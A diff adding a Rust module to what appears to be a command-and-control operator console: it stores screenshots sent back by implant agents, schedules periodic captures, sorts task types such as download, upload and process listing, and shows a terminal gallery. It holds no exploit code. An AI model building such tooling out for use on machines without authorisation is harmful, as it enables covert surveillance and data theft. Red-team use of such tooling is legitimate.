@@ -0,0 +1,290 @@
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use chrono::Utc;
+use crossterm::event::{KeyCode, KeyEvent};
+use ratatui::layout::Rect;
+use ratatui::text::{Line, Span};
+use ratatui::widgets::{Clear, List, ListItem, ListState, Paragraph};
+use ratatui::Frame;
+use rusqlite::{Connection, OptionalExtension};
+
+use crate::crypto::open_payload_text;
+use crate::db::complete_task;
+use crate::error::{Error, Result};
+use crate::loot::DOWNLOAD_COMMAND;
+use crate::netinfo::NETINFO_COMMAND;
+use crate::processes::PROCESS_LIST_COMMAND;
+use crate::sysinfo::SYSINFO_COMMAND;
+use crate::theme::ColorScheme;
+use crate::topology::REACHABILITY_COMMAND;
+use crate::transfers::UPLOAD_COMMAND;
+
+const PNG_SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";
+pub const SCREENSHOT_COMMAND: &str = "screenshot";
+
+// Nature de la sortie attendue d'une tâche : texte affiché tel quel, capture d'écran
+// PNG écrite sur disque et dont seul le chemin reste en base, liste de processus ou
+// résultats de sonde en JSON, fichier rapatrié rangé sous loot/ ou poussé vers l'agent
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PayloadType {
+    Text,
+    Screenshot,
+    ProcessList,
+    Reachability,
+    Download,
+    Upload,
+    SystemInfo,
+    NetInfo,
+}
+
+impl PayloadType {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            PayloadType::Text => "text",
+            PayloadType::Screenshot => "screenshot",
+            PayloadType::ProcessList => "process_list",
+            PayloadType::Reachability => "reachability",
+            PayloadType::Download => "download",
+            PayloadType::Upload => "upload",
+            PayloadType::SystemInfo => "sysinfo",
+            PayloadType::NetInfo => "netinfo",
+        }
+    }
+
+    // Seules screenshot, ps, les sondes reach, download, upload, sysinfo et netinfo changent de type ; tout le reste est du texte.
+    // Le premier mot seul compte, sans égard à la casse : "PS" comme "Download /etc/hosts"
+    pub fn for_command(command: &str) -> PayloadType {
+        let word = command.split_whitespace().next().unwrap_or_default().to_lowercase();
+        match word.as_str() {
+            SCREENSHOT_COMMAND => PayloadType::Screenshot,
+            PROCESS_LIST_COMMAND => PayloadType::ProcessList,
+            REACHABILITY_COMMAND => PayloadType::Reachability,
+            DOWNLOAD_COMMAND => PayloadType::Download,
+            UPLOAD_COMMAND => PayloadType::Upload,
+            SYSINFO_COMMAND => PayloadType::SystemInfo,
+            NETINFO_COMMAND => PayloadType::NetInfo,
+            _ => PayloadType::Text,
+        }
+    }
+}
+
+// text, screenshot, process_list, reachability, download, upload, sysinfo, netinfo, ou binary réservé aux sorties brutes sans traitement particulier
+pub fn add_payload_type_column(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute("ALTER TABLE tasks ADD COLUMN payload_type TEXT NOT NULL DEFAULT 'text'", [])?;
+    Ok(())
+}
+
+// NULL tant que l'opérateur n'a pas demandé de captures périodiques
+pub fn add_screenshot_interval_column(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute("ALTER TABLE agents ADD COLUMN screenshot_interval_secs INTEGER", [])?;
+    Ok(())
+}
+
+// Le planificateur met en file screenshot à cet intervalle ; None arrête les captures
+pub fn set_screenshot_interval(conn: &Connection, agent_id: &str, secs: Option<u64>) -> Result<()> {
+    let updated = conn.execute("UPDATE agents SET screenshot_interval_secs = ?1 WHERE id = ?2", (secs, agent_id))?;
+    if updated == 0 {
+        return Err(Error::AgentNotFound(agent_id.to_string()));
+    }
+    Ok(())
+}
+
+// Un id d'agent vient de l'enregistrement de l'implant : il ne doit pas sortir du répertoire
+pub fn safe_component(name: &str) -> String {
+    let cleaned: String = name
+        .chars()
+        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') { c } else { '_' })
+        .collect();
+    if cleaned.is_empty() || cleaned.chars().all(|c| c == '.') { "_".to_string() } else { cleaned }
+}
+
+// Sous-répertoire à côté de la base, ou dans le répertoire courant pour une base en mémoire
+pub fn beside_db(conn: &Connection, dir: &str) -> PathBuf {
+    beside_db_path(conn.path().unwrap_or_default(), dir)
+}
+
+// Même chose depuis le chemin de la base, pour qui n'a pas de connexion ouverte
+pub fn beside_db_path(db_path: &str, dir: &str) -> PathBuf {
+    Some(db_path)
+        .filter(|p| !p.is_empty())
+        .and_then(|p| Path::new(p).parent().map(Path::to_path_buf))
+        .unwrap_or_default()
+        .join(dir)
+}
+
+// Écrit screenshots/<agent_id>/<AAAA-MM-JJ>/<horodatage>.png puis termine la tâche avec ce
+// chemin pour sortie. La tâche doit exister, être de type screenshot et attendre encore sa
+// réponse, les octets commencer par la signature PNG.
+pub fn handle_screenshot_response(conn: &Connection, command_id: i64, data: &[u8]) -> Result<PathBuf> {
+    let task: Option<(String, String)> = conn
+        .query_row(
+            "SELECT agent_id, payload_type FROM tasks WHERE id = ?1 AND status IN ('pending', 'sent')",
+            [command_id],
+            |row| Ok((row.get(0)?, row.get(1)?)),
+        )
+        .optional()?;
+    let Some((agent_id, payload_type)) = task else {
+        return Err(Error::TaskNotFound(command_id));
+    };
+    if payload_type != PayloadType::Screenshot.as_str() {
+        return Err(Error::Screenshot(format!("la tâche {} attend une sortie {}", command_id, payload_type)));
+    }
+    if !data.starts_with(PNG_SIGNATURE) {
+        return Err(Error::Screenshot(format!("la sortie de la tâche {} n'est pas une image PNG", command_id)));
+    }
+    let now = Utc::now();
+    let dir = beside_db(conn, "screenshots")
+        .join(safe_component(&agent_id))
+        .join(now.format("%Y-%m-%d").to_string());
+    fs::create_dir_all(&dir)?;
+    let path = dir.join(format!("{}.png", now.format("%Y%m%dT%H%M%S%.3fZ")));
+    fs::write(&path, data)?;
+    complete_task(conn, command_id, &path.display().to_string(), false)?;
+    Ok(path)
+}
+
+pub fn task_payload_type(conn: &Connection, task_id: i64) -> rusqlite::Result<Option<String>> {
+    conn.query_row("SELECT payload_type FROM tasks WHERE id = ?1", [task_id], |row| row.get(0)).optional()
+}
+
+// Chemin de la dernière capture reçue de l'agent
+pub fn last_screenshot(conn: &Connection, agent_id: &str) -> rusqlite::Result<Option<String>> {
+    conn.query_row(
+        "SELECT output FROM tasks WHERE agent_id = ?1 AND payload_type = 'screenshot' AND status = 'done'
+         ORDER BY id DESC LIMIT 1",
+        [agent_id],
+        |row| row.get::<_, Option<String>>(0),
+    )
+    .optional()?
+    .flatten()
+    .map(|path| open_payload_text(conn, agent_id, path))
+    .transpose()
+}
+
+#[derive(Debug, Clone)]
+pub struct Screenshot {
+    pub task_id: i64,
+    pub created_at: String,
+    pub path: String,
+}
+
+// Captures reçues de l'agent, la plus récente en premier
+pub fn load_screenshots(conn: &Connection, agent_id: &str) -> rusqlite::Result<Vec<Screenshot>> {
+    let mut stmt = conn.prepare_cached(
+        "SELECT id, created_at, output FROM tasks WHERE agent_id = ?1 AND payload_type = 'screenshot' AND status = 'done'
+         ORDER BY created_at DESC, id DESC",
+    )?;
+    let rows = stmt.query_map([agent_id], |row| Ok((row.get(0)?, row.get(1)?, row.get::<_, Option<String>>(2)?)))?;
+    let mut shots = Vec::new();
+    for row in rows {
+        let (task_id, created_at, output) = row?;
+        let path = open_payload_text(conn, agent_id, output.unwrap_or_default())?;
+        shots.push(Screenshot { task_id, created_at, path });
+    }
+    Ok(shots)
+}
+
+// Jour et nom du fichier : le répertoire de l'agent se lit dans le titre
+fn gallery_name(path: &str) -> String {
+    let path = Path::new(path);
+    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+    match path.parent().and_then(Path::file_name) {
+        Some(day) => format!("{}/{}", day.to_string_lossy(), name),
+        None => name,
+    }
+}
+
+pub enum GalleryOutcome {
+    Pending,
+    Closed,
+    // Chemin de la capture à passer à la visionneuse
+    Open(String),
+}
+
+// Panneau ouvert avec C sur un agent : ses captures par date, rechargées à chaque tick
+pub struct GalleryPanel {
+    pub agent_id: String,
+    shots: Vec<Screenshot>,
+    state: ListState,
+}
+
+impl GalleryPanel {
+    pub fn new(agent_id: &str) -> GalleryPanel {
+        GalleryPanel { agent_id: agent_id.to_string(), shots: Vec::new(), state: ListState::default() }
+    }
+
+    pub fn shots(&self) -> &[Screenshot] {
+        &self.shots
+    }
+
+    pub fn set_shots(&mut self, shots: Vec<Screenshot>) {
+        let current = self.state.selected().and_then(|i| self.shots.get(i)).map(|s| s.task_id);
+        self.shots = shots;
+        let position = current.and_then(|id| self.shots.iter().position(|s| s.task_id == id));
+        self.state.select(position.or((!self.shots.is_empty()).then_some(0)));
+    }
+
+    pub fn handle_key(&mut self, key: KeyEvent) -> GalleryOutcome {
+        let last = self.shots.len().saturating_sub(1);
+        let selected = self.state.selected().unwrap_or(0);
+        match key.code {
+            KeyCode::Esc | KeyCode::Char('q') | KeyCode::Char('C') => return GalleryOutcome::Closed,
+            KeyCode::Down | KeyCode::Char('j') => self.state.select(Some((selected + 1).min(last))),
+            KeyCode::Up | KeyCode::Char('k') => self.state.select(Some(selected.saturating_sub(1))),
+            KeyCode::Home => self.state.select(Some(0)),
+            KeyCode::End => self.state.select(Some(last)),
+            KeyCode::Enter => {
+                if let Some(shot) = self.shots.get(selected) {
+                    return GalleryOutcome::Open(shot.path.clone());
+                }
+            }
+            _ => {}
+        }
+        GalleryOutcome::Pending
+    }
+}
+
+pub fn draw_gallery_panel(f: &mut Frame, panel: &mut GalleryPanel, area: Rect, scheme: &ColorScheme) {
+    f.render_widget(Clear, area);
+    let block = scheme.block(format!(
+        "Captures de {} ({}) — Entrée: ouvrir, :screenshot-interval, Échap",
+        panel.agent_id,
+        panel.shots.len(),
+    ));
+    if panel.shots.is_empty() {
+        let empty = Line::from(Span::styled("Aucune capture : :screenshot-interval <agent> <intervalle>", scheme.dim()));
+        f.render_widget(Paragraph::new(empty).block(block), area);
+        return;
+    }
+    let items: Vec<ListItem> = panel.shots.iter()
+        .map(|shot| ListItem::new(Line::from(vec![
+            Span::styled(format!("{}  ", shot.created_at), scheme.dim()),
+            Span::raw(gallery_name(&shot.path)),
+        ])))
+        .collect();
+    let list = List::new(items).block(block).highlight_style(scheme.selection());
+    f.render_stateful_widget(list, area, &mut panel.state);
+}
+
+// Visionneuse du système, détachée : l'interface ne l'attend pas et ses messages ne
+// doivent pas s'afficher par-dessus le terminal. Le chemin vient de la sortie d'une tâche :
+// seul un fichier existant sous le répertoire des captures (root) est ouvert, jamais une URL
+pub fn open_screenshot(root: &Path, path: &str) -> Result<()> {
+    let outside = || Error::Screenshot(format!("{} n'est pas une capture de {}", path, root.display()));
+    let root = root.canonicalize().map_err(|_| outside())?;
+    let file = Path::new(path).canonicalize().map_err(|_| outside())?;
+    if !file.starts_with(&root) || !file.is_file() {
+        return Err(outside());
+    }
+    let opener = if cfg!(target_os = "macos") { "open" } else { "xdg-open" };
+    let mut child = Command::new(opener)
+        .arg(&file)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()?;
+    std::thread::spawn(move || child.wait());
+    Ok(())
+}